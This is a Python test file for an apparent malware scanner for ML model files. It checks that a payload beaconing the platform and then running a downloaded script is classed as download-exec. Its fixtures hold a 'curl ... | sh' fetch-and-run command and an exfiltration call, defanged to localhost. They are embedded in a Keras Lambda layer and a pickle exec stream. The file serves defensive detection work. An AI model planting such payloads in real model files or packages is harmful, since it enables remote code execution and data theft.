"""The headline category is the most dangerous one (docs/CATEGORIES.md, ``malhug.core.categories``).

The case from the issue: a payload that sends ``sys.platform`` out, then downloads a script and runs
it, is ``download-exec``, not ``exfiltration``, wherever one category sums up several behaviours.
"""

from __future__ import annotations

import json

from malhug.analyzers.api import scan_bytes
from malhug.core import categories
from malhug.core.model import Category, FileReport, Location, Severity
from malhug.core.rules import finding
from malhug.hub.refcheck import worst_file
from malhug.hub.types import RepoScan
from tests.keras.keraslib import keras_zip, lambda_b64, only
from tests.pickle.helpers import one, s4

# Beacon the platform to a collector, then fetch a script and run it (defanged: local addresses).
BEACON_THEN_RUN = (
    "__import__('urllib.request').request.urlopen('http://127.0.0.1:8000/b?p=' + __import__('sys').platform)"
    " and __import__('os').system('curl -s http://127.0.0.1:8000/s.sh | sh')"
)


def test_ranking_lists_every_category_once_with_download_exec_above_exfiltration() -> None:
    assert sorted(categories.RANKING, key=lambda c: c.value) == sorted(Category, key=lambda c: c.value)
    assert categories.rank(Category.DOWNLOAD_EXEC) < categories.rank(Category.EXFILTRATION)
    assert categories.most_dangerous([Category.EXFILTRATION, Category.DOWNLOAD_EXEC]) is Category.DOWNLOAD_EXEC
    assert categories.most_dangerous([]) is None


def test_keras_lambda_that_beacons_then_downloads_and_runs_is_download_exec() -> None:
    fn = {"class_name": "__lambda__", "config": {"value": [lambda_b64(f"({BEACON_THEN_RUN}) or x"), None, None]}}
    layer = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "lam", "function": fn}}
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [layer]}}
    report = scan_bytes(keras_zip(config), name="m.keras")
    assert only(report, "MH301").category is Category.DOWNLOAD_EXEC
    assert report.to_dict()["category"] == "download-exec"


def test_pickle_exec_of_code_that_beacons_then_downloads_and_runs_is_download_exec() -> None:
    data = b"\x80\x04" + s4("builtins") + s4("exec") + b"\x93" + s4(BEACON_THEN_RUN) + b"\x85R."
    report = scan_bytes(data, name="model.pkl")
    assert one(report, "MH101").category is Category.DOWNLOAD_EXEC
    assert report.headline is not None and report.headline.category is Category.DOWNLOAD_EXEC


def test_script_that_beacons_then_downloads_and_runs_heads_with_download_exec() -> None:
    code = (
        "import os, sys, urllib.request\n"
        "urllib.request.urlopen('http://127.0.0.1:8000/b?p=' + sys.platform)\n"
        "os.system('curl -s http://127.0.0.1:8000/s.sh | sh')\n"
    )
    report = scan_bytes(code.encode(), name="setup.py")
    cats = {f.category for f in report.findings}
    assert Category.DOWNLOAD_EXEC in cats, [(f.rule, f.category.value) for f in report.findings]
    assert report.headline is not None and report.headline.category is Category.DOWNLOAD_EXEC
    assert json.loads(json.dumps(report.to_dict()))["category"] == "download-exec"


def _report(path: str, *found: tuple[str, Category, Severity]) -> FileReport:
    return FileReport(
        path=path,
        format="pickle",
        findings=[finding(rule, category=cat, severity=sev, location=Location(offset=1)) for rule, cat, sev in found],
    )


def test_file_headline_is_the_most_dangerous_category_among_the_findings_deciding_the_verdict() -> None:
    report = _report(
        "model.pkl",
        ("MH101", Category.EXFILTRATION, Severity.CRITICAL),
        ("MH101", Category.DOWNLOAD_EXEC, Severity.HIGH),
        ("MH109", Category.REVERSE_SHELL, Severity.MEDIUM),  # medium: does not decide a malicious verdict
    )
    assert report.headline is not None and report.headline.category is Category.DOWNLOAD_EXEC
    assert report.to_dict()["category"] == "download-exec"
    clean = _report("ok.pkl", ("MH108", Category.UNSAFE_IMPORT, Severity.LOW))
    assert "category" not in clean.to_dict()


def test_hub_repo_summary_names_the_file_whose_headline_ranks_highest() -> None:
    scan = RepoScan(
        repo_id="org/model",
        repo_type="model",
        revision=None,
        commit_sha="0" * 40,
        files=[
            _report("a.pkl", ("MH101", Category.EXFILTRATION, Severity.CRITICAL)),
            _report("b.pkl", ("MH101", Category.DOWNLOAD_EXEC, Severity.HIGH)),
        ],
    )
    report, worst = worst_file(scan)
    assert report is not None and report.path == "b.pkl"
    assert worst is not None and worst.category is Category.DOWNLOAD_EXEC
